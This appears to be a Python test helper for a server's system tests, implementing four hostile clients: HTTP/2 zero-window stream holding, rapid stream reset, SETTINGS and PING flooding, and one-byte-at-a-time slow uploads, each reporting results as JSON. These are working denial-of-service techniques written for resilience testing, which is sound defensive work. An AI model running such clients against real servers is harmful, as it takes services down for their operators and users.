#!/usr/bin/env python3
"""Hostile clients over TLS for tests/system/h2-abuse.sh. Each subcommand prints one JSON line.
Needs the `h2` package (ensure_venv). Certificates are not verified: the peer is the test's own.

  window1 HOST PORT PATH CONNS STREAMS PING_EVERY SECONDS
      CONNS HTTP/2 connections that announce SETTINGS_INITIAL_WINDOW_SIZE = 1, open up to STREAMS
      GETs of PATH each (as many as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows), never
      send WINDOW_UPDATE, and PING every PING_EVERY seconds; reports how many streams each opened
      and when the server closed it (null: still open after SECONDS).
  rapid-reset HOST PORT PATH SECONDS
      Opens a stream and resets it at once, as fast as it can, reconnecting when the server ends
      the connection; reports streams sent and connections used.
  flood HOST PORT SECONDS
      Sends SETTINGS and PING frames in bulk without reading the answers; reports frames sent.
  trickle HOST PORT PATH N EVERY SECONDS
      N HTTP/1.1 PATCH uploads to PATH that send one byte every EVERY seconds (Content-Length
      1000000); reports each one's status and when the server answered or closed (null: still
      going after SECONDS).
"""
import json
import os
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def tls(host, port, alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    raw = socket.create_connection((host, port), timeout=5)
    s = ctx.wrap_socket(raw, server_hostname=host)
    if s.selected_alpn_protocol() != alpn:
        raise SystemExit(f"server did not agree to {alpn}")
    return s


def h2_client(s, window=None):
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    initial = {h2.settings.SettingCodes.ENABLE_PUSH: 0}
    if window is not None:
        initial[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
    c.local_settings = h2.settings.Settings(client=True, initial_values=initial)
    c.initiate_connection()
    s.sendall(c.data_to_send())
    # Read until the server's SETTINGS arrived, so its stream limit is known.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        data = s.recv(65536)
        if not data:
            raise SystemExit("server closed during the preface")
        events = c.receive_data(data)
        out = c.data_to_send()
        if out:
            s.sendall(out)
        if any(isinstance(e, h2.events.RemoteSettingsChanged) for e in events):
            return c
    raise SystemExit("no SETTINGS from the server")


def headers(host, port, path):
    return [(":method", "GET"), (":scheme", "https"), (":authority", f"{host}:{port}"),
            (":path", path), ("user-agent", "h2-abuse")]


def window1(host, port, path, conns, streams, ping_every, seconds):
    results = [None] * conns
    start = time.monotonic()

    def run(i):
        r = {"opened": 0, "responses": 0, "bytes": 0, "closed_after": None, "goaway": False}
        results[i] = r
        s = tls(host, port, "h2")
        c = h2_client(s, window=1)
        for _ in range(streams):
            try:
                c.send_headers(c.get_next_available_stream_id(), headers(host, port, path),
                               end_stream=True)
                r["opened"] += 1
            except h2.exceptions.TooManyStreamsError:
                break
        s.sendall(c.data_to_send())
        s.settimeout(0.2)
        last_ping = time.monotonic()
        while time.monotonic() - start < seconds:
            if time.monotonic() - last_ping >= ping_every:
                c.ping(os.urandom(8))
                last_ping = time.monotonic()
            try:
                out = c.data_to_send()
                if out:
                    s.sendall(out)
                data = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                data = b""
            if not data:
                r["closed_after"] = round(time.monotonic() - start, 2)
                break
            try:
                events = c.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for e in events:
                # Data is counted and never acknowledged: no WINDOW_UPDATE ever goes out.
                if isinstance(e, h2.events.ResponseReceived):
                    r["responses"] += 1
                elif isinstance(e, h2.events.DataReceived):
                    r["bytes"] += len(e.data)
                elif isinstance(e, h2.events.ConnectionTerminated):
                    r["goaway"] = True
        s.close()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    closed = [r["closed_after"] for r in results if r["closed_after"] is not None]
    print(json.dumps({
        "conns": conns,
        "opened": [r["opened"] for r in results],
        "bytes": sum(r["bytes"] for r in results),
        "closed": len(closed),
        "open": conns - len(closed),
        "max_closed_after": max(closed) if closed else None,
    }))


def rapid_reset(host, port, path, seconds):
    start = time.monotonic()
    sent = conns = goaways = 0
    while time.monotonic() - start < seconds:
        try:
            s = tls(host, port, "h2")
            c = h2_client(s)
        except (OSError, SystemExit):
            time.sleep(0.05)
            continue
        conns += 1
        s.settimeout(0.01)
        try:
            while time.monotonic() - start < seconds:
                for _ in range(50):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, headers(host, port, path), end_stream=True)
                    c.reset_stream(sid)
                    sent += 1
                s.sendall(c.data_to_send())
                try:
                    data = s.recv(65536)
                    if not data:
                        break
                    for e in c.receive_data(data):
                        if isinstance(e, h2.events.ConnectionTerminated):
                            goaways += 1
                            raise EOFError
                except socket.timeout:
                    pass
        except (OSError, EOFError, h2.exceptions.ProtocolError):
            pass
        s.close()
    print(json.dumps({"streams": sent, "conns": conns, "goaways": goaways}))


def flood(host, port, seconds):
    s = tls(host, port, "h2")
    c = h2_client(s)
    s.settimeout(1)
    start = time.monotonic()
    frames = 0
    closed = False
    while time.monotonic() - start < seconds:
        for _ in range(200):
            c.ping(os.urandom(8))
        # An empty SETTINGS frame each time: the server must acknowledge every one.
        for _ in range(20):
            c.update_settings({})
        frames += 220
        try:
            s.sendall(c.data_to_send())
        except socket.timeout:
            # The server stopped reading (its answers are not being read): that is its right.
            continue
        except OSError:
            closed = True
            break
    s.close()
    print(json.dumps({"frames": frames, "closed": closed}))


def trickle(host, port, path, n, every, seconds):
    results = [None] * n
    start = time.monotonic()

    def run(i):
        s = tls(host, port, "http/1.1")
        s.sendall((f"PATCH {path[i % len(path)]} HTTP/1.1\r\nHost: {host}:{port}\r\n"
                   "Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n")
                  .encode())
        s.settimeout(every)
        data = b""
        sent = 0
        while time.monotonic() - start < seconds:
            try:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
                if b"\r\n\r\n" in data:
                    break
            except socket.timeout:
                try:
                    s.sendall(b"x")
                    sent += 1
                except OSError:
                    break
            except OSError:
                break
        after = round(time.monotonic() - start, 2) if time.monotonic() - start < seconds else None
        status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else None
        results[i] = {"status": status, "after": after, "sent": sent}
        s.close()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps({"uploads": results,
                      "max_after": max((r["after"] or seconds) for r in results)}))


def main():
    cmd, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    a = sys.argv[4:]
    if cmd == "window1":
        window1(host, port, a[0], int(a[1]), int(a[2]), float(a[3]), float(a[4]))
    elif cmd == "rapid-reset":
        rapid_reset(host, port, a[0], float(a[1]))
    elif cmd == "flood":
        flood(host, port, float(a[0]))
    elif cmd == "trickle":
        trickle(host, port, a[0].split(","), int(a[1]), float(a[2]), float(a[3]))
    else:
        sys.exit(f"unknown command {cmd}")


if __name__ == "__main__":
    main()
